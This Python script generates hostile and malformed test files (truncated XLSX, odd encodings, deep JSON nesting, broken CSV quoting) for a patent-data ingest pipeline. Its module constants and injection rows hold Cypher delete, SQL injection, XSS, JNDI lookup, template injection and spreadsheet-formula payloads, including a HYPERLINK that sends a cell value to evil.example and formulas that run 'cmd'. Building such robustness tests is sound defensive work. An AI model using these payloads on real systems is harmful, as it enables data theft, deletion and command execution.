"""Regenerate the second half of the bad-input corpus (this folder).

Run ``python tests/bad_inputs/more/make_more_bad_inputs.py``; the files are committed
so the tests do not depend on this script, except ``huge_field.csv`` (a 5 MB field),
which :func:`write_huge` writes at test time instead of keeping 5 MB in the repository.
Every file is hand-designed test data: the patents are invented, application numbers
carry valid CNIPA check digits unless a row is meant to be broken. ``README.md`` lists
what each file contains and how every row must be accounted for; the tests are in
``tests/test_hostile_ingest_inputs.py``.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import datetime
from pathlib import Path

HERE = Path(__file__).resolve().parent
WEIGHTS = (2, 3, 4, 5, 6, 7, 8, 9, 2, 3, 4, 5)
HEADERS = ["申请号", "申请日", "公开(公告)号", "专利名称", "摘要", "申请(专利权)人", "发明人", "分类号", "申请人地址"]

#: injection-looking strings: each must be stored verbatim and do nothing
CYPHER_DELETE = "') DETACH DELETE n //"
CYPHER_PARAM = "$param"
CYPHER_BACKTICK = "`Patent` {id: 'x'}) DETACH DELETE n //"
SQL_OR = "' OR 1=1 --"
FORMULA_LINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
FORMULA_CMD = "+cmd|' /C calc'!A0"
FORMULA_AT = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_MINUS = "-2+3+cmd|' /C calc'!A0"
HTML_SCRIPT = "<script>alert('xss')</script>"
HTML_IMG = "\"><img src=x onerror=alert(1)>"


def app(digits: str) -> str:
    r = sum(int(d) * WEIGHTS[i] for i, d in enumerate(digits)) % 11
    return f"CN{digits}.{'X' if r == 10 else r}"


def csv_text(rows: list[list], headers: list[str] = HEADERS, delimiter: str = ",",
             lineterminator: str = "\n") -> str:
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=delimiter, lineterminator=lineterminator)
    w.writerow(headers)
    w.writerows(rows)
    return buf.getvalue()


def row(app_no="", app_date="", pub_no="", title="", abstract="", applicants="", inventors="", ipc="",
        address="") -> list[str]:
    return [app_no, app_date, pub_no, title, abstract, applicants, inventors, ipc, address]


def _xlsx_bytes(sheets: list[tuple[str, list[list]]]) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    wb.remove(wb.active)
    for title, rows in sheets:
        ws = wb.create_sheet(title)
        for r in rows:
            ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _big_xlsx() -> bytes:
    rows = [["申请号", "专利名称", "申请(专利权)人"]]
    rows += [[app(f"2025200{i:05d}"), f"一种第{i}号截断测试专利", "重庆大学"] for i in range(1500)]
    return _xlsx_bytes([("Sheet1", rows)])


def _rezip(data: bytes, edit) -> bytes:
    """Copy an XLSX (zip), passing each member through ``edit(name, bytes) -> bytes``."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, edit(info.filename, src.read(info.filename)))
    return out.getvalue()


def write_huge(dest: Path) -> Path:
    """``huge_field.csv``: a 5 MB abstract between two normal rows (written at test time)."""
    path = dest / "huge_field.csv"
    path.write_text(csv_text([
        row(app("202510000017"), "2025-01-02", "", "一种巨大字段前的专利", "摘要。", "重庆大学"),
        row(app("202510000021"), "2025-01-03", "", "一种有五兆摘要的专利", "巨" * (5 * 1024 * 1024 // 3),
            "重庆大学"),
        row(app("202510000035"), "2025-01-04", "", "一种巨大字段后的专利", "摘要。", "重庆大学"),
    ]), encoding="utf-8")
    return path


def main(dest: Path = HERE) -> None:
    dest.mkdir(parents=True, exist_ok=True)

    # -- XLSX ---------------------------------------------------------------------------
    big = _big_xlsx()
    # cut at several points: inside the first member's header, in the middle of the
    # compressed data, and just before the end (the zip's central directory is missing)
    (dest / "xlsx_cut_head.xlsx").write_bytes(big[:300])
    (dest / "xlsx_cut_tail.xlsx").write_bytes(big[:-60])

    # a well-formed zip whose worksheet XML stops in the middle of row 1201
    def cut_sheet(name: str, data: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return data
        at = data.index(b'<row r="1201"')
        return data[: at + 60]
    (dest / "xlsx_sheet_xml_cut.xlsx").write_bytes(_rezip(big, cut_sheet))

    # a zip that is not a workbook
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("readme.txt", "这不是一个Excel文件。")
        zf.writestr("data.csv", "申请号,专利名称\n")
    (dest / "zip_not_xlsx.xlsx").write_bytes(buf.getvalue())

    # a cover sheet first, the data on the second sheet, its continuation on the third
    # (same headers), a fourth data sheet with other headers, a chart-data sheet
    hdr = ["申请号", "申请日", "专利名称", "申请(专利权)人"]
    (dest / "multi_sheet.xlsx").write_bytes(_xlsx_bytes([
        ("说明", [["本文件由专利检索系统导出"], ["检索式：TI=(电池)"], [None], ["共 4 条"]]),
        ("检索结果", [hdr, [app("202510000040"), datetime(2025, 2, 1), "一种第一页的电池", "重庆大学"],
                  [app("202510000054"), datetime(2025, 2, 2), "一种第一页的电机", "重庆大学"]]),
        ("检索结果(续)", [hdr, [app("202510000069"), datetime(2025, 2, 3), "一种续页的电池", "重庆邮电大学"]]),
        ("法律状态", [["公开(公告)号", "标题", "法律状态"], ["CN118000001A", "一种另表的专利", "有权"]]),
        ("统计", [["年份", "数量"], [2025, 4]]),
    ]))

    # merged cells (an applicant spanning two rows) and formulas (no cached values: openpyxl
    # reads them as empty in data_only mode)
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(["申请号", "专利名称", "申请(专利权)人", "摘要"])
    ws.append([app("202510000073"), "一种合并单元格的专利", "重庆大学", "摘要一"])
    ws.append([app("202510000088"), "另一种合并单元格的专利", None, "摘要二"])
    ws.merge_cells("C2:C3")
    ws.append([app("202510000092"), '=CONCATENATE("一种","公式标题")', "重庆大学", "=1+1"])
    ws.append([app("202510000105"), "一种摘要是公式的专利", "重庆大学", "=A5&B5"])
    ws.merge_cells("A7:D7")
    ws.cell(7, 1, "合计：4 条")
    mbuf = io.BytesIO()
    wb.save(mbuf)
    (dest / "merged_formulas.xlsx").write_bytes(mbuf.getvalue())

    # numbers where text is expected: an application number as an int (no check digit),
    # as a float, in Excel's scientific display; dates as Excel serials (int and float)
    # and as text; a count as a float; a title that is a number
    wb = Workbook()
    ws = wb.active
    ws.append(["申请号", "申请日", "公开(公告)号", "专利名称", "申请(专利权)人", "被引证次数"])
    ws.append([202510000110, 45658, "CN118000002A", "一种申请号为整数的专利", "重庆大学", 3.0])
    ws.append([202510000125.0, 45659.5, None, "一种申请号为浮点数的专利", "重庆大学", None])
    ws.append(["2.02510E+11", "45660", "CN118000004A", "一种申请号被科学计数法显示的专利", "重庆大学", "2"])
    ws.append([app("202510000130"), "2025-01-05", "CN118000005A", 12345, "重庆大学", "three"])
    nbuf = io.BytesIO()
    wb.save(nbuf)
    (dest / "numeric_cells.xlsx").write_bytes(nbuf.getvalue())

    # -- JSONL ----------------------------------------------------------------------------
    lines = [
        {"id": "t1", "title": "一种正常的JSONL专利", "assignee": "重庆大学", "abstract": "摘要。"},
        {"id": 2, "title": 12345, "assignee": "重庆大学"},  # numbers where strings are expected
        {"id": "t3", "title": ["一种", "列表标题"], "assignee": ["重庆大学", "重庆邮电大学"]},
        {"id": "t4", "title": {"zh": "一种对象标题"}, "assignee": None},
        {"id": "t5", "title": None, "assignee": "重庆大学"},  # null title: reject
        {"id": None, "title": "一种没有标识的专利"},  # null id: reject
        {"id": "t7", "title": True, "assignee": False, "abstract": 1.5e300},
        {"id": "t8", "title": "一种嵌套列表的专利", "assignee": [["重庆大学"], {"name": "重庆邮电大学"}]},
        {"id": "t9", "title": "   ", "assignee": "重庆大学"},  # blank title: reject
    ]
    (dest / "wrong_types.jsonl").write_text(
        "\n".join(json.dumps(x, ensure_ascii=False) for x in lines) + "\n", encoding="utf-8")
    deep = [
        json.dumps({"id": "d1", "title": "一种嵌套前的专利", "assignee": "重庆大学"}, ensure_ascii=False),
        '{"id": "d2", "title": "一种深层嵌套的专利", "assignee": ' + "[" * 100_000 + "]" * 100_000 + "}",
        json.dumps({"id": "d3", "title": "一种嵌套后的专利", "assignee": "重庆大学"}, ensure_ascii=False),
    ]
    (dest / "deep_nesting.jsonl").write_text("\n".join(deep) + "\n", encoding="utf-8")
    sur = [
        json.dumps({"id": "s1", "title": "一种代理对正常的专利😀", "assignee": "重庆大学"}, ensure_ascii=False),
        '{"id": "s2", "title": "一种孤立代理\\ud800的专利", "assignee": "重庆大学"}',
        '{"id": "s3", "title": "一种专利", "assignee": "重庆\\udfff大学"}',
        '{"id": "s4", "title": "一种转义的\\u0000NUL专利", "assignee": "重庆大学"}',
        json.dumps({"id": "s5", "title": "一种代理对之后的专利", "assignee": "重庆大学"}, ensure_ascii=False),
    ]
    (dest / "surrogates.jsonl").write_text("\n".join(sur) + "\n", encoding="utf-8")

    # -- CSV / text ----------------------------------------------------------------------
    # injection-looking strings in every kind of field
    inj = [
        row(app("202510000144"), "2025-03-01", "", CYPHER_DELETE, CYPHER_BACKTICK, CYPHER_DELETE, CYPHER_PARAM,
            "H01M4/36", SQL_OR),
        row(app("202510000159"), "2025-03-02", "", FORMULA_LINK, FORMULA_CMD, FORMULA_LINK + ";" + FORMULA_AT,
            FORMULA_MINUS, "", HTML_IMG),
        row(app("202510000163"), "2025-03-03", "", HTML_SCRIPT, HTML_IMG, HTML_SCRIPT, "", "", ""),
        row(app("202510000178"), "2025-03-04", "", SQL_OR + " UNION SELECT * FROM users", "${jndi:ldap://x/a}",
            CYPHER_PARAM + " 科技有限公司", "", "", "{{7*7}}"),
    ]
    (dest / "injection_fields.csv").write_text(csv_text(inj), encoding="utf-8")

    # injection-looking, empty and repeated header names
    hdr_inj = ["申请号", "专利名称", CYPHER_DELETE, "", FORMULA_LINK, "申请人", "`id`"]
    (dest / "header_injection.csv").write_text(csv_text([
        [app("202510000182"), "一种表头注入的专利", "x", "y", "z", "重庆大学", "w"],
    ], headers=hdr_inj), encoding="utf-8")

    # duplicate header names: the first 专利名称 is empty on one row, the second fills in
    dup_hdr = ["申请号", "专利名称", "专利名称", "申请(专利权)人", "申请(专利权)人"]
    (dest / "duplicate_headers.csv").write_text(csv_text([
        [app("202510000197"), "一种第一列有标题的专利", "第二列标题", "重庆大学", "重庆邮电大学"],
        [app("202510000201"), "", "一种只有第二列标题的专利", "", "重庆邮电大学"],
    ], headers=dup_hdr), encoding="utf-8")

    # NUL bytes and control characters inside fields of an otherwise normal text file
    ctl = csv_text([
        row(app("202510000216"), "2025-04-01", "", "一种正常的专利", "摘要。", "重庆大学"),
        row(app("202510000220"), "2025-04-02", "", "一种含NUL_HERE的专利", "摘要。", "重庆大学"),
        row(app("202510000235"), "2025-04-03", "", "一种含\x01\x02\x1b[31m控制字符\x7f的专利", "制表\t符", "重庆大学"),
        row(app("202510000249"), "2025-04-04", "", "一种正常的专利二", "摘要\x0b\x0c。", "重庆大学"),
    ]).encode("utf-8").replace(b"NUL_HERE", b"\x00")
    (dest / "nul_control.csv").write_bytes(ctl)

    # old-Mac CR-only line endings
    (dest / "cr_only.csv").write_text(csv_text([
        row(app("202510000253"), "2025-05-01", "", "一种CR换行的专利", "", "重庆大学"),
        row(app("202510000268"), "2025-05-02", "", "另一种CR换行的专利", "", "重庆大学"),
    ], lineterminator="\r"), encoding="utf-8", newline="")

    # quoted fields with newlines, quotes and delimiters; a CRLF file
    (dest / "multiline_quoted.csv").write_text(csv_text([
        row(app("202510000272"), "2025-06-01", "", "一种多行\n标题的专利", "第一段，\n第二段，含\"引号\"。\r\n第三段", "重庆大学"),
        row(app("202510000287"), "2025-06-02", "", "一种正常的专利", "摘要。", "重庆大学,重庆邮电大学"),
        row(app("202510000291"), "2025-06-03", "", "一种\n\n\n空行在引号里的专利", "", "重庆大学"),
    ], lineterminator="\r\n"), encoding="utf-8", newline="")

    # an unterminated quote swallows the rest of the file
    (dest / "unterminated_quote.csv").write_text(
        csv_text([row(app("202510000304"), "2025-07-01", "", "一种引号前的专利", "摘要。", "重庆大学")])
        + f'{app("202510000319")},2025-07-02,,"一种引号没有结束的专利,摘要,重庆大学,,,,\n'
        + f'{app("202510000323")},2025-07-03,,一种被吞掉的专利,摘要,重庆大学,,,,\n'
        + f'{app("202510000338")},2025-07-04,,另一种被吞掉的专利,摘要,重庆大学,,,,\n',
        encoding="utf-8")

    # a UTF-8 file with some lines in GBK (two exports concatenated)
    utf8_part = csv_text([
        row(app("202510000342"), "2025-08-01", "", "一种UTF8编码的专利", "摘要。", "重庆大学"),
        row(app("202510000357"), "2025-08-02", "", "另一种UTF8编码的专利", "摘要。", "重庆大学"),
    ]).encode("utf-8")
    gbk_part = "".join(csv_text([
        row(app("202510000361"), "2025-08-03", "", "一种GBK编码的专利", "摘要。", "重庆邮电大学"),
    ]).splitlines(keepends=True)[1:]).encode("gbk")
    utf8_tail = "".join(csv_text([
        row(app("202510000376"), "2025-08-04", "", "一种文件末尾的UTF8专利", "摘要。", "重庆大学"),
    ]).splitlines(keepends=True)[1:]).encode("utf-8")
    (dest / "mixed_gbk_utf8.csv").write_bytes(utf8_part + gbk_part + utf8_tail)

    # nothing but a byte-order mark
    (dest / "bom_only.csv").write_bytes(b"\xef\xbb\xbf")

    # Excel's "Unicode text" export: UTF-16 LE with BOM, tab-separated, .txt
    u16 = csv_text([
        [app("202510000380"), "2025-09-01", "一种UTF16导出的专利", "重庆大学", "H01M 10/0525"],
        [app("202510000395"), "2025-09-02", "另一种UTF16导出的专利", "重庆长安汽车股份有限公司", "B60L 58/12"],
    ], headers=["申请号", "申请日", "专利名称", "申请人", "IPC"], delimiter="\t", lineterminator="\r\n")
    (dest / "utf16_tab.txt").write_bytes(b"\xff\xfe" + u16.encode("utf-16-le"))

    # UTF-16 LE without a BOM
    (dest / "utf16_nobom.csv").write_bytes(csv_text([
        [app("202510000408"), "一种无BOM的UTF16专利", "重庆大学"],
    ], headers=["申请号", "专利名称", "申请人"]).encode("utf-16-le"))

    # 3,000 columns, only three of which are patent fields
    wide_headers = ["申请号", "专利名称", "申请人"] + [f"自定义字段{i}" for i in range(2997)]
    (dest / "many_columns.csv").write_text(csv_text([
        [app("202510000412"), "一种宽表中的专利", "重庆大学"] + [str(i) for i in range(2997)],
        [app("202510000427"), "另一种宽表中的专利", "重庆大学"] + [""] * 2997,
    ], headers=wide_headers), encoding="utf-8")

    # numbers that Excel mangled before the file was saved as CSV
    (dest / "excel_mangled.csv").write_text(csv_text([
        ["2.02511E+11", "44197", "CN1.18E+08", "一种申请号被Excel改成科学计数法的专利", "", "重庆大学"],
        ["202510000431", "2025/1/5 0:00:00", "", "一种申请号丢了校验位的专利", "", "重庆大学"],
        ["2.02511E+11", "45658", "CN118000006A", "一种公开号完好的专利", "", "重庆大学"],
    ], headers=["申请号", "申请日", "公开(公告)号", "专利名称", "摘要", "申请人"]), encoding="utf-8")


if __name__ == "__main__":
    main()
